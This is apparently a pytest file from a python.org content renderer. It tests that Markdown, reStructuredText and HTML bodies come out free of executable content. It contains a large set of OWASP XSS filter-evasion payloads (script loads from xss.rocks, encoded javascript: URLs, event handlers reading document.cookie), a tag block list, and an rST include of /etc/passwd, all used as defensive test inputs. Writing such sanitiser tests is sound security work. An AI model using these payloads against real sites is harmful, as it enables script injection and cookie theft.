"""Bodies rendered on write: each markup type, and nothing that runs survives."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from pydotorg.content.markup import Markup, render, rendered, text_of
from pydotorg.core.exceptions import FieldError
from pydotorg.core.text import sanitize


def test_markdown_is_commonmark() -> None:
    html = render("# Title\n\nSome *emphasis* and [a link](https://example.org).", "markdown")
    assert html.startswith("<h1>Title</h1>")
    assert "<em>emphasis</em>" in html
    assert '<a href="https://example.org" rel="noopener noreferrer">a link</a>' in html


def test_restructuredtext_keeps_its_title_and_refuses_files_and_raw_html() -> None:
    source = (
        "Title\n=====\n\nText with *emphasis*.\n\n"
        ".. include:: /etc/passwd\n\n.. raw:: html\n\n   <b id=raw>raw</b>\n"
    )
    html = render(source, Markup.RESTRUCTUREDTEXT)
    assert "Title</h" in html and "<em>emphasis</em>" in html
    assert "root:" not in html and "raw" not in html.replace('id="title"', "")
    assert "system-message" not in html


def test_html_is_kept_but_sanitised() -> None:
    html = render('<p onclick="x()">Hi <a href="javascript:alert(1)">there</a></p>', "html")
    assert html == '<p>Hi <a rel="noopener noreferrer">there</a></p>'


@pytest.mark.parametrize(
    "dirty",
    [
        "<script>alert(1)</script>",
        "<style>body{display:none}</style>",
        '<iframe src="https://evil.example"></iframe>',
        '<img src="x" onerror="alert(1)">',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<form action="https://evil.example"><input name="q"></form>',
    ],
)
def test_nothing_that_runs_survives(dirty: str) -> None:
    clean = sanitize(dirty)
    for word in ("script", "style", "iframe", "onerror", "vbscript", "form", "input", "alert"):
        assert word not in clean, clean


def test_an_unknown_markup_type_is_refused() -> None:
    with pytest.raises(ValueError, match="latex"):
        render("text", "latex")


# The OWASP XSS Filter Evasion Cheat Sheet, through every markup type ---------------------------

# Elements that run code, load code or styles, or change the page around the body.
FORBIDDEN_TAGS = frozenset(
    {
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "meta",
        "link",
        "style",
        "svg",
        "math",
        "xml",
        "bgsound",
        "form",
        "input",
        "button",
        "textarea",
        "layer",
        "ilayer",
    }
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "background",
        "lowsrc",
        "dynsrc",
        "data",
        "xlink:href",
        "poster",
        "codebase",
        "cite",
        "longdesc",
        "usemap",
        "ping",
        "manifest",
        "icon",
        "content",
    }
)
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]")


class _Audit(HTMLParser):
    """Collects what in a piece of HTML could run: a forbidden element, an event handler or a
    style attribute, or a URL attribute (``alt`` text is not one) with a scheme other than
    http, https or mailto.
    Attribute values come unescaped (``&#106;`` is ``j``), and a URL is read as a browser
    reads it: with tabs, line breaks, spaces and controls removed, leading quotes and backticks
    too (old browsers took backticks for quotes), case folded."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "formaction", "srcdoc"}:
                self.findings.append(f"<{tag} {name}=...>")
            url = _IGNORED_IN_URLS.sub("", value or "").lstrip("`'\"").lower()
            scheme = _SCHEME.match(url)
            if name in URL_ATTRIBUTES and scheme and scheme.group(1) not in SAFE_SCHEMES:
                self.findings.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def executable_parts(html: str) -> list[str]:
    """What in ``html`` could run or load code (empty when nothing can)."""
    audit = _Audit()
    audit.feed(html)
    audit.close()
    if "<script" in html.lower():
        audit.findings.append("<script")
    return audit.findings


def test_the_audit_sees_what_runs() -> None:
    assert executable_parts('<p><a href="https://www.python.org/">x</a></p>') == []
    assert executable_parts('<a href="/relative/path?q=1#top">x</a>') == []
    assert executable_parts("<script>alert(1)</script>") == ["<script>", "<script"]
    assert executable_parts('<a href="&#x6A;ava&#09;script:x">x</a>') != []
    assert executable_parts("<img src=x onerror=alert(1)>") == ["<img onerror=...>"]
    assert executable_parts("<div style=\"background:url('x')\">") == ["<div style=...>"]
    assert executable_parts('<img src="data:image/png;base64,AAAA">') != []
    assert executable_parts('<img alt="javascript:alert(1)" src="/logo.png">') == []
    assert executable_parts('<a href=" VBScript:msgbox(1)">x</a>') != []


OWASP_VECTORS = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" '
    'CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053"
    "\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" '
    'AllowScriptAccess="always"></EMBED>',
    "<a href=\"javascript:alert('XSS')\">x</a>",
    "<a href=\"&#x6A;avascript:alert('XSS')\">x</a>",
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">x</a>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<details open ontoggle=alert(1)>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
]
# Link targets, for the link syntax of Markdown and reStructuredText.
OWASP_URLS = [
    "javascript:alert('XSS')",
    "JaVaScRiPt:alert('XSS')",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "%6a%61%76%61%73%63%72%69%70%74:alert(1)",
    "\\javascript:alert(1)",
]


# Unterminated tags html.parser never reports (a browser may still build them).
UNTERMINATED = {
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
}


def test_at_least_twenty_vectors_each_caught_by_the_audit_unsanitised() -> None:
    assert len(OWASP_VECTORS) >= 20 and len(set(OWASP_VECTORS)) == len(OWASP_VECTORS)
    assert UNTERMINATED.issubset(OWASP_VECTORS)
    for vector in OWASP_VECTORS:
        assert vector in UNTERMINATED or executable_parts(vector) != [], vector


@pytest.mark.parametrize("vector", sorted(UNTERMINATED))
def test_unterminated_vectors_leave_no_element(vector: str) -> None:
    for markup in Markup:
        html = render(vector, markup).lower()
        assert "<img" not in html and "<iframe" not in html, (markup, html)


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_owasp_vectors_as_html(vector: str) -> None:
    assert executable_parts(render(vector, Markup.HTML)) == []
    assert executable_parts(render(f"<p>before</p>{vector}<p>after</p>", Markup.HTML)) == []


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_owasp_vectors_as_raw_html_in_markdown(vector: str) -> None:
    for source in (vector, f"Some text {vector} inline.", f"# Title\n\n{vector}\n\nMore."):
        assert executable_parts(render(source, Markup.MARKDOWN)) == [], source


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_owasp_vectors_in_restructuredtext_stay_text(vector: str) -> None:
    html = render(f"Text\n\n{vector}\n\n.. raw:: html\n\n   {vector}\n", Markup.RESTRUCTUREDTEXT)
    assert executable_parts(html) == []


@pytest.mark.parametrize("url", OWASP_URLS)
def test_owasp_urls_in_markdown_links(url: str) -> None:
    for source in (f"[x]({url})", f"![x]({url})", f"<{url}>", f"[x][r]\n\n[r]: {url}"):
        html = render(source, Markup.MARKDOWN)
        assert executable_parts(html) == [], (source, html)


@pytest.mark.parametrize("url", OWASP_URLS)
def test_owasp_urls_in_restructuredtext_links(url: str) -> None:
    for source in (
        f"`x <{url}>`_",
        f"`x`_\n\n.. _x: {url}",
        f".. image:: {url}",
        f".. figure:: {url}\n\n   caption",
        f"|x|\n\n.. |x| image:: {url}",
    ):
        html = render(source, Markup.RESTRUCTUREDTEXT)
        assert executable_parts(html) == [], (source, html)


@pytest.mark.parametrize("url", OWASP_URLS)
def test_owasp_urls_in_html_links(url: str) -> None:
    for source in (f'<a href="{url}">x</a>', f'<img src="{url}">', f"<a href={url}>x</a>"):
        assert executable_parts(render(source, Markup.HTML)) == [], source


def test_safe_links_survive_the_sanitiser() -> None:
    html = render(
        "[a](https://www.python.org/) [b](/about/) [c](mailto:psf@python.org)", "markdown"
    )
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs == ["https://www.python.org/", "/about/", "mailto:psf@python.org"]


def test_a_body_its_renderer_refuses_is_a_422_naming_content() -> None:
    with pytest.raises(FieldError) as raised:
        rendered("text", "latex")
    assert raised.value.field == "content" and raised.value.status_code == 422


def test_the_search_reads_text_not_tags() -> None:
    assert text_of('<p class="hidden">Fish &amp; <a href="/x">chips</a></p>') == "Fish & chips"
